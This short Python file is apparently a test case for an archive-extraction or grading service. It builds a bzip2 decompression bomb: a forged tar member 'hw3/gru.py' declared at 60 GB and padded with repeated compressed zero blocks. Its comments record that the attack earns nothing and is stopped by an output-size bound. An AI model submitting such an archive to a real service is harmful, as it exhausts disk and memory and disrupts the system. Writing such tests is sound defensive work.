# attack: 64 GB of zeros in a hundred kB of bzip2
# earns: 0
# stopped by: the bound on what may come out of an archive
import bz2
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    member = tarfile.TarInfo("hw3/gru.py")
    member.size = 60 << 30
    head = bz2.compress(member.tobuf(tarfile.GNU_FORMAT))
    path.write_bytes(head + bz2.compress(bytes(32 << 20)) * 2000)
